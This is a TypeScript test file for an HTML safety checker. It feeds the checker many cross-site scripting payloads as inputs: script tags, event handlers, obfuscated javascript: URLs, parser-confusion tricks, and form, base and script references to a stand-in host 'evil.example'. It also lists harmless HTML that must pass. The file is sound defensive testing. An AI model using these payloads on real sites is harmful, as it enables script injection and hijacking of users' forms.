import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { assertSafeHtml, findUnsafeHtml } from './unsafe-html.ts';

/** What is found in `html`, without where. */
function found(html: string): string[] {
  return [...new Set(findUnsafeHtml(html).map(({ what }) => what))];
}

describe('what runs code', () => {
  test.each([
    ['<script>alert(1)</script>', '<script>'],
    ['<SCRIPT SRC=//evil.example></SCRIPT>', '<script>'],
    ['<script/x>alert(1)</script>', '<script>'],
    ['<script type="application/ld+json">{}</script>', '<script>'],
    ['<svg><script>alert(1)</script></svg>', '<script>'],
    ['<math><script>alert(1)</script></math>', '<script>'],
    ['<template><script>alert(1)</script></template>', '<script>'],
    ['<noscript><p title="</noscript><script>alert(1)</script>"></noscript>', '<script>'],
    ['<noscript><script>alert(1)</script></noscript>', '<script>'],
    ['<style><!--</style><script>alert(1)</script>-->', '<script>'],
    ['<title><a title="</title><script>alert(1)</script>">', '<script>'],
    ['</div></body></html><script>alert(1)</script>', '<script>'],
    ['<svg><foreignObject><script>alert(1)</script></foreignObject></svg>', '<script>'],
  ])('script: %s', (html, what) => {
    expect(found(html)).toContain(what);
  });

  test.each([
    ['<img src=x onerror=alert(1)>', 'event handler onerror on <img>'],
    ['<IMG SRC=x OnErRoR="alert(1)">', 'event handler onerror on <img>'],
    ['<img/src/onerror=alert(1)>', 'event handler onerror on <img>'],
    ['<p onclick>', 'event handler onclick on <p>'],
    ['<svg onload=alert(1)>', 'event handler onload on <svg>'],
    ['<svg><animate onbegin=alert(1)>', 'event handler onbegin on <animate>'],
    ['<math onclick=alert(1)>', 'event handler onclick on <math>'],
    ['<body onload=alert(1)>', 'event handler onload on <body>'],
    ['</body><html onclick=alert(1)>', 'event handler onclick on <html>'],
    ['<template><img onerror=alert(1) src></template>', 'event handler onerror on <img>'],
    ['<svg><style><img src=x onerror=alert(1)></style></svg>', 'event handler onerror on <img>'],
    [
      '<noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      'event handler onerror on <img>',
    ],
    ['<select><img src=x onerror=alert(1)></select>', 'event handler onerror on <img>'],
    ['<select onclick=alert(1)><option>x</select>', 'event handler onclick on <select>'],
    ['<details ontoggle=alert(1) open>', 'event handler ontoggle on <details>'],
    ['<input autofocus onfocus=alert(1)>', 'event handler onfocus on <input>'],
    ['<xss onanything=alert(1)>', 'event handler onanything on <xss>'],
  ])('event handlers: %s', (html, what) => {
    expect(found(html)).toContain(what);
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' \t\n javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscr\ript:alert(1)',
    '\u0001javascript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript&colon;alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script&#58;alert(1)',
    'javascript&#0058;alert(1)',
    'javascript://x/%0aalert(1)',
    'javascript://[/%0aalert(1)',
    'javascript://a b/%0aalert(1)',
    'vbscript:msgbox(1)',
  ])('URLs: %j', (url) => {
    const scheme = url.startsWith('vb') ? 'vbscript:' : 'javascript:';
    expect(found(`<a href="${url}">x</a>`)).toEqual([`${scheme} URL in href on <a>`]);
    expect(found(`<svg><a xlink:href="${url}"><text>x</text></a></svg>`)).toHaveLength(1);
    expect(found(`<form action="${url}"></form>`)).toHaveLength(1);
    expect(found(`<button formaction="${url}">x</button>`)).toHaveLength(1);
    expect(found(`<iframe src="${url}"></iframe>`)).toHaveLength(1);
    expect(found(`<object data="${url}"></object>`)).toHaveLength(1);
    expect(found(`<embed src="${url}">`)).toHaveLength(1);
    expect(found(`<math href="${url}">x</math>`)).toHaveLength(1);
    expect(found(`<svg><a><set attributeName="href" to="${url}"/></a></svg>`)).toHaveLength(1);
    expect(found(`<svg><a><animate attributeName="href" values="#;${url}"/></a></svg>`)).toHaveLength(1);
  });

  test.each([
    ['<base href="https://evil.example/">', '<base>'],
    ['<base target=_blank>', '<base>'],
    ['<form action="https://evil.example/"></form>', 'foreign action on <form>'],
    ['<form action="//evil.example/"></form>', 'foreign action on <form>'],
    ['<form action="\\\\evil.example/"></form>', 'foreign action on <form>'],
    ['<form action="/\t/evil.example/"></form>', 'foreign action on <form>'],
    ['<form action="https:evil.example"></form>', 'foreign action on <form>'],
    ['<form action="http:evil.example"></form>', 'foreign action on <form>'],
    ['<form action="mailto:a@evil.example"></form>', 'foreign action on <form>'],
    ['<form action="http://[/"></form>', 'foreign action on <form>'],
    ['<button formaction="https://evil.example/">x</button>', 'foreign formaction on <button>'],
    ['<input type=submit formaction="//evil.example">', 'foreign formaction on <input>'],
    ['<meta http-equiv=refresh content="0;url=https://evil.example/">', 'refresh on <meta>'],
    ['<meta http-equiv=" ReFresh " content="0;url=javascript:x">', 'refresh on <meta>'],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'code in srcdoc on <iframe>'],
    ['<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>', 'code in srcdoc on <iframe>'],
    ['<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', 'data: document in src on <iframe>'],
    ['<object data="data:text/html,x"></object>', 'data: document in data on <object>'],
    ['<embed src="data:image/svg+xml,x">', 'data: document in src on <embed>'],
    ['<svg><use href="data:image/svg+xml,x#a"/></svg>', 'data: document in href on <use>'],
    ['<svg><use xlink:href="data:image/svg+xml,x#a"/></svg>', 'data: document in href on <use>'],
  ])('other ways: %s', (html, what) => {
    expect(found(html)).toContain(what);
  });

  test.each([
    ['<img src=x onerror=alert(1) ', 'event handler onerror on <img>'],
    ['<img src=x onerror="alert(1)" title="', 'event handler onerror on <img>'],
    ["<img src=x onerror='alert(1)' title='", 'event handler onerror on <img>'],
    ['<script src=//evil.example', '<script>'],
    ['<a href=javascript:alert(1)//', 'javascript: URL in href on <a>'],
    ['<base href="https://evil.example/', '<base>'],
  ])('a tag that the page around it would end: %s', (html, what) => {
    expect(found(html)).toContain(what);
  });

  test('documents within documents are refused before they cost anything', () => {
    let html = '<p>x</p>';
    for (let depth = 0; depth < 12; depth += 1) {
      html = `<iframe srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
    }
    expect(found(html)).toEqual(['code in srcdoc on <iframe>']);
  });
});

describe('what is allowed', () => {
  test.each([
    ...[
      '<p>plain</p>',
      'text',
      '',
      '<!-- <script>alert(1)</script> -->',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
    ],
    ...[
      '<code>onclick=alert(1)</code>',
      '<p title="onclick=alert(1) javascript:x">x</p>',
      '<p data-onclick="x">',
    ],
    '<iframe src="https://video.example/embed/1" allowfullscreen></iframe>',
    '<iframe src="//video.example/embed/1"></iframe>',
    '<iframe srcdoc="<p>quiet</p>"></iframe>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<img srcset="a.jpg 1x, b.jpg 2x" loading=lazy>',
    '<a href="https://elsewhere.example/?q=javascript:x">x</a>',
    '<a href="/javascript:x">x</a>',
    '<a href="./javascript:x">x</a>',
    '<a href="mailto:a@b.example">x</a><a href="tel:+1">x</a><a href="#top">x</a><a href="">x</a>',
    '<a href="data:text/plain,x">x</a>',
    '<form action="/search"><input name=q></form>',
    '<form action="?q=1"></form><form action=""></form><form></form><form action="search.html"></form>',
    '<form><button formaction="/save">x</button></form>',
    '<svg viewBox="0 0 1 1"><use href="#a"/><animate attributeName="x" from="0" to="10" values="0;5"/></svg>',
    '<video poster="p.jpg" controls><source src="v.mp4"></video>',
    '<object data="/a.pdf"></object>',
    '<style>p { color: red }</style>',
    '<template><p>x</p></template><noscript><img src="a.jpg"></noscript>',
    '<meta http-equiv="content-language" content="en">',
    '<p>a < b > c & d',
    '<p title="',
    '<textarea><p>unclosed',
  ])('%s', (html) => {
    expect(findUnsafeHtml(html)).toEqual([]);
    expect(() => assertSafeHtml(html)).not.toThrow();
  });

  test('text that is escaped, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const escaped = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
        expect(findUnsafeHtml(`<p title="${escaped}">${escaped}</p>`)).toEqual([]);
      }),
    );
  });
});

describe('where', () => {
  test('lines and columns count from 1, in the order of the text', () => {
    const html = '<p>fine</p>\n  <b onclick=x>\n<a href="javascript:x">é</a><script>';
    expect(findUnsafeHtml(html)).toEqual([
      { what: 'event handler onclick on <b>', line: 2, column: 3 },
      { what: 'javascript: URL in href on <a>', line: 3, column: 1 },
      { what: '<script>', line: 3, column: 29 },
    ]);
  });

  test('a second <body> is where it stands', () => {
    expect(findUnsafeHtml('<p>fine</p>\n <body onload=x>')).toEqual([
      { what: 'event handler onload on <body>', line: 2, column: 2 },
    ]);
  });

  test('every fault of one element is named', () => {
    expect(found('<a onclick=x onfocus=y href="javascript:z">')).toEqual([
      'event handler onclick on <a>',
      'event handler onfocus on <a>',
      'javascript: URL in href on <a>',
    ]);
  });

  test('an answer names ten at most', () => {
    const html = '<b onclick=x></b>'.repeat(50);
    const errors = Array(10).fill(expect.objectContaining({ field: 'content', code: 'unsafe_html' }));
    expect(() => assertSafeHtml(html)).toThrow(expect.objectContaining({ status: 422, errors }));
  });

  test('no depth of nesting is too deep', () => {
    const deep = '<div>'.repeat(20_000);
    expect(found(`${deep}<b onclick=x>`)).toEqual(['event handler onclick on <b>']);
  });
});

test('a handler is found wherever it is put', () => {
  const wrappers = [
    'p',
    'svg',
    'math',
    'table',
    'td',
    'select',
    'template',
    'noscript',
    'ul',
    'li',
    'a',
    'b',
    'form',
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...wrappers), { maxLength: 6 }), (tags) => {
      const open = tags.map((tag) => `<${tag}>`).join('');
      const close = tags.map((tag) => `</${tag}>`).join('');
      expect(found(`${open}<img src=x onerror=alert(1)>${close}`).length).toBeGreaterThan(0);
    }),
  );
});
